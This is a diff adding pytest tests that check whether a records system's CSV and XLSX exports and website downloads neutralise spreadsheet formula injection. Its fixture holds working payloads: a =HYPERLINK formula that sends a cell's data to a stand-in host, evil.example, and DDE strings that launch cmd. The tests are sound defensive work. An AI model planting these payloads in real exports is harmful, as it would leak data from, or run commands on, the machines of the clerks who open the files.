@@ -79,3 +79,111 @@ def test_a_masked_clerk_cannot_unmask_a_name_by_guessing_its_hidden_character(fa
     named = [g for g, a in zip(guesses, answers) if f'href="/-/person/{son}"' in a.text]
     assert named == [], "a masked clerk unmasked a name by guessing its hidden character"
     assert answers[-1].status_code == 429
+
+
+# ---------------------------------------------------------------- exports a clerk opens in Excel
+
+import csv  # noqa: E402
+import io  # noqa: E402
+import sqlite3  # noqa: E402
+
+import openpyxl  # noqa: E402
+import pytest  # noqa: E402
+from click.testing import CliRunner  # noqa: E402
+
+from conftest import person  # noqa: E402
+from syncdb import merge  # noqa: E402
+from syncdb.cli import cli  # noqa: E402
+
+A = "441900003001"
+# What a community's record may hold in a free-text cell; Excel runs each of these as a formula when a
+# clerk opens a CSV holding it bare (=HYPERLINK sends the row to another site when clicked, +/-/@ too).
+FORMULAS = {
+    "name": '=HYPERLINK("http://evil.example/?"&B2,"点击查看")',
+    "address": "+cmd|' /C calc'!A0",
+    "former_name": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "workplace": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+@pytest.fixture
+def formulas(office_world, make_community, domains, syncdb_secret, syncdb_env):
+    """A resident whose name, address, former name and workplace are formulas, merged at the office."""
+    a = make_community(A)
+    row = person(7, A, **FORMULAS)
+    conn = sqlite3.connect(a.path / "huji.db")
+    with conn:
+        conn.execute(f"INSERT INTO persons ({', '.join(row)}) VALUES ({', '.join('?' * len(row))})", list(row.values()))
+    conn.close()
+    summary = merge.merge(office_world.store, [a.export().path], syncdb_secret, domains)
+    assert summary.rejected == [] and summary.changes == 1, summary
+    return office_world.store, syncdb_env
+
+
+def runs_in_excel(cell: str) -> bool:
+    """Would Excel read this CSV cell as a formula that does something? ="…" (a string, the way
+    export keeps text as text) only shows its text."""
+    if re.fullmatch(r'="(?:[^"]|"")*"', cell):
+        return False
+    return cell.lstrip("\t\r ").startswith(("=", "+", "-", "@"))
+
+
+def shown_by_excel(cell: str) -> str:
+    found = re.fullmatch(r'="((?:[^"]|"")*)"', cell)
+    return found[1].replace('""', '"') if found else cell
+
+
+def test_a_csv_export_never_hands_excel_a_formula_from_a_record(formulas):
+    store, env = formulas
+    result = CliRunner().invoke(cli, ["export", str(store), "huji.persons"], env=env)
+    assert result.exit_code == 0, result.output
+    rows = list(csv.DictReader(io.StringIO(result.stdout.lstrip("\ufeff"))))
+    assert len(rows) == 1
+    for label, cell in rows[0].items():
+        assert not runs_in_excel(cell), (label, cell)
+    # And the clerk still reads exactly what the community wrote.
+    assert shown_by_excel(rows[0]["姓名"]) == FORMULAS["name"]
+    assert shown_by_excel(rows[0]["住址"]) == FORMULAS["address"]
+    assert shown_by_excel(rows[0]["服务处所"]) == FORMULAS["workplace"]
+
+
+def test_an_xlsx_export_keeps_a_formula_looking_record_as_text(formulas, tmp_path):
+    store, env = formulas
+    out = tmp_path / "人员.xlsx"
+    result = CliRunner().invoke(cli, ["export", str(store), "huji.persons", "--format", "xlsx", "-o", str(out)],
+                                env=env)
+    assert result.exit_code == 0, result.output
+    sheet = openpyxl.load_workbook(out).active
+    header = [c.value for c in sheet[1]]
+    row = {h: c for h, c in zip(header, sheet[2])}
+    for name, label in (("name", "姓名"), ("address", "住址"), ("former_name", "曾用名"), ("workplace", "服务处所")):
+        assert row[label].data_type == "s" and row[label].value == FORMULAS[name], label
+
+
+def test_the_sites_excel_download_keeps_a_formula_looking_record_as_text(formulas, publisher, tmp_path):
+    store, _env = formulas
+    site = publisher(store)
+    wang = site.sign_in("wangfang")
+    got = wang.get(f"{site.url}/renkou_mingwen/户籍_人员.xlsx")
+    assert got.status_code == 200, got.text[:300]
+    out = tmp_path / "site.xlsx"
+    out.write_bytes(got.content)
+    sheet = openpyxl.load_workbook(out).active
+    header = [c.value for c in sheet[1]]
+    row = {h: c for h, c in zip(header, sheet[2])}
+    for name, label in (("name", "姓名"), ("address", "住址"), ("workplace", "服务处所")):
+        assert row[label].data_type == "s" and row[label].value == FORMULAS[name], label
+
+
+@pytest.mark.xfail(strict=True, reason="the site's CSV is Datasette's own, written cell by cell as the database "
+                   "holds it; keeping a formula from running needs the CSV rewritten as it streams (or the site's "
+                   "CSV replaced by a renderer of ours): a design decision, see the report of r12")
+def test_the_sites_csv_never_hands_excel_a_formula_from_a_record(formulas, publisher):
+    store, _env = formulas
+    site = publisher(store)
+    for who, database in (("wangfang", "renkou_mingwen"), ("lilei", "renkou")):
+        got = site.sign_in(who).get(f"{site.url}/{database}/户籍_人员.csv")
+        assert got.status_code == 200, got.text[:300]
+        for row in csv.reader(io.StringIO(got.content.decode("utf-8-sig"))):
+            for cell in row:
+                assert not runs_in_excel(cell), (who, cell)
